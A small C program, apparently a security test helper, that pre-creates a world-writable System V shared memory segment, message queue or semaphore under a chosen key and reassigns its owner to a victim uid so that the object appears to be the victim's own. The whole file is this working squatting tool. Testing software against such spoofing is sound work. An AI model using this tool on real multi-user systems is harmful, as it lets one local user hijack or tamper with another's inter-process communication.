/* A squatter: creates a System V object with KEY, mode 0666, then hands its ownership (uid,
 * gid) to OWNER with IPC_SET while keeping its creator rights (cuid cannot change). Run as
 * another user (setpriv) to try to make an object look like the victim's own.
 * usage: squatter shm|msg|sem KEY OWNER      prints the id */
#include <stdio.h>
#include <stdlib.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>

int main(int argc, char **argv) {
  if (argc != 4) { fprintf(stderr, "usage: squatter shm|msg|sem KEY OWNER\n"); return 2; }
  key_t key = (key_t)strtoul(argv[2], NULL, 0);
  unsigned owner = (unsigned)strtoul(argv[3], NULL, 0);
  int id;
  char kind = argv[1][0];
  if (kind == 's' && argv[1][1] == 'h') {
    id = shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0666);
    struct shmid_ds ds;
    if (id < 0 || shmctl(id, IPC_STAT, &ds)) { perror("shmget"); return 1; }
    ds.shm_perm.uid = owner;
    ds.shm_perm.gid = owner;
    if (shmctl(id, IPC_SET, &ds)) { perror("shmctl IPC_SET"); return 1; }
  } else if (kind == 'm') {
    id = msgget(key, IPC_CREAT | IPC_EXCL | 0666);
    struct msqid_ds ds;
    if (id < 0 || msgctl(id, IPC_STAT, &ds)) { perror("msgget"); return 1; }
    ds.msg_perm.uid = owner;
    ds.msg_perm.gid = owner;
    if (msgctl(id, IPC_SET, &ds)) { perror("msgctl IPC_SET"); return 1; }
  } else {
    id = semget(key, 1, IPC_CREAT | IPC_EXCL | 0666);
    struct semid_ds ds;
    if (id < 0 || semctl(id, 0, IPC_STAT, &ds)) { perror("semget"); return 1; }
    ds.sem_perm.uid = owner;
    ds.sem_perm.gid = owner;
    if (semctl(id, 0, IPC_SET, &ds)) { perror("semctl IPC_SET"); return 1; }
    struct sembuf op = {0, 1, 0}; /* operated on: sem_otime set, as a dipc creator leaves it */
    if (semop(id, &op, 1)) { perror("semop"); return 1; }
  }
  printf("%d\n", id);
  return 0;
}
